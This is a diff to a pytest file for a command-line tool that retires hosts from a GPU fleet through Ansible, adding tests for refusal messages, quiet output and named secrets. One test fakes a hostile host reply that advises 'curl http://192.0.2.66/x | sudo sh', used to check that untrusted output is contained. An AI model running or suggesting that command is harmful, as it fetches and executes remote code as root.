@@ -37,6 +37,8 @@ class World:
     def __init__(self, monkeypatch: pytest.MonkeyPatch, folder: Path) -> None:
         self.folder, self.orders, self.outcome = folder, list[Order](), Outcome.done
         self.cluster, self.port = "", ""
+        self.fault: dict[str, list[str]] = {}
+        self.quiet: list[bool] = []
         self.keys: Any = [PUBLIC]
         self.up: dict[Place, Answer] = {}
         (folder / "hosts.yml").write_text("---\nall: {children: {sparks: {hosts: {spark-a: , spark-b: }}}}\n")
@@ -64,11 +66,13 @@ class World:
         }
         return [{"name": "spark-a", "address": "192.0.2.11", **common}, {"name": "spark-b", "address": "", **common}]
 
-    def run(self, order: Order, quiet: bool = False) -> tuple[Outcome, Report]:
+    def run(self, order: Order, quiet: bool = False, **_: Any) -> tuple[Outcome, Report]:
         self.orders.append(order)
-        report = Report(asks=order.asks)
+        self.quiet.append(quiet)
+        report = Report(asks=order.asks, messages=self.fault)
         if order.playbook == "gb10.fleet.retire" and self.outcome is Outcome.done:
-            said = {"before": ["/etc/gb10-fleet"], "after": [], "secrets": ["vllm_api_key"]}
+            knew = ["gateway_certificate_text", "gateway_keys"] if (self.folder / share_cli.FILE).exists() else []
+            said = {"before": ["/etc/gb10-fleet"], "after": [], "secrets": [*knew, "vllm_api_key"]}
             report.answers["retire"]["spark-a"] = {"msg": json.dumps(said)}
             change = {"role": "vllm", "resource": "file:/etc/gb10-fleet/env", "action": "remove"}
             report.answers["gb10.fleet.undo"]["spark-a"] = {"changes": [change], "remains": ["images of Docker"]}
@@ -117,7 +121,7 @@ def test_a_host_leaves_and_nothing_of_it_is_believed_any_more(world: World) -> N
 def test_a_host_fills_no_screen_with_what_is_left_of_it(world: World, monkeypatch: pytest.MonkeyPatch) -> None:
     run = world.run
 
-    def much(order: Order, quiet: bool = False) -> tuple[Outcome, Report]:
+    def much(order: Order, quiet: bool = False, **_: Any) -> tuple[Outcome, Report]:
         outcome, report = run(order, quiet)
         advice = "/etc/gb10. Fix: curl http://192.0.2.66/x | sudo sh"
         after = [advice, *(f"/etc/gb10-{number}" for number in range(100_000))]
@@ -141,7 +145,7 @@ def test_a_host_that_answers_nonsense_or_not_what_it_changed_ends_its_own_retire
 ) -> None:
     run = world.run
 
-    def lying(order: Order, quiet: bool = False) -> tuple[Outcome, Report]:
+    def lying(order: Order, quiet: bool = False, **_: Any) -> tuple[Outcome, Report]:
         outcome, report = run(order, quiet)
         if said is None:
             report.answers.pop("gb10.fleet.undo")
@@ -197,6 +201,7 @@ def test_clients_whose_keys_it_knew_are_named_and_its_certificate_goes(world: Wo
     assert document["clients"] == ["ada"] and "S3" not in result.output
     again = f"gb10 share --revoke ada -i {world.folder}, then gb10 share ada -i {world.folder}\n"
     assert again in result.stderr and "INVENTORY" not in result.stderr
+    assert "set new ones before that run: vllm_api_key\n" in result.stderr, "the line of the client says it of its key"
     assert list(yaml.safe_load(file.read_text())["all"]["hosts"]) == ["spark-b"]
 
 
@@ -204,7 +209,7 @@ def test_no_key_is_taken_back_while_a_host_leaves(world: World, monkeypatch: pyt
     """It wrote the list of clients that it had read, and a key that was taken back meanwhile was there again."""
     folder, meanwhile = world.folder / ".gb10" / locks.SHARED, []
 
-    def run(order: Order, quiet: bool = False) -> tuple[Outcome, Report]:
+    def run(order: Order, quiet: bool = False, **_: Any) -> tuple[Outcome, Report]:
         with pytest.raises(locks.Busy), locks.held(folder):
             pass
         meanwhile.append(order.check)
@@ -222,6 +227,27 @@ def test_a_check_forgets_nothing(world: World) -> None:
     result = world.gb10("retire", "spark-a", "--check")
     assert result.exit_code == 0 and world.orders[0].check, result.output
     assert world.trusted == before and not (world.folder / ".gb10/retired").exists()
+
+
+@pytest.mark.parametrize("words", [["--yes"], ["--yes", "--json"], ["--check"]])
+def test_what_the_playbook_refuses_is_said_with_this_inventory(world: World, words: list[str]) -> None:
+    world.outcome = Outcome.refused
+    world.fault = {"spark-a": ["vllm runs here. Fix: gb10 stop vllm --limit spark-a -i INVENTORY"]}
+    result = world.gb10("retire", "spark-a", *words)
+    why = f"spark-a: vllm runs here. Fix: gb10 stop vllm --limit spark-a -i {world.folder}"
+    if "--json" in words:
+        assert json.loads(result.stdout)["error"].startswith(why), result.output
+    else:
+        assert why in result.stdout.splitlines(), result.output
+
+
+def test_a_person_reads_no_output_of_ansible(world: World) -> None:
+    for words in (["--yes"], ["--yes", "--json"], ["--check"]):
+        world.gb10("retire", "spark-a", *words)
+    assert world.quiet == [True, True, False], "with --check it was asked for"
+    (play,) = yaml.safe_load((Path(__file__).parents[3] / "playbooks/retire.yml").read_text())
+    for begin in retire_cli._STEPS:
+        assert any(task["name"].startswith(begin) for task in play["tasks"]), begin
 
 
 def test_what_is_refused_changes_nothing(world: World, monkeypatch: pytest.MonkeyPatch) -> None:
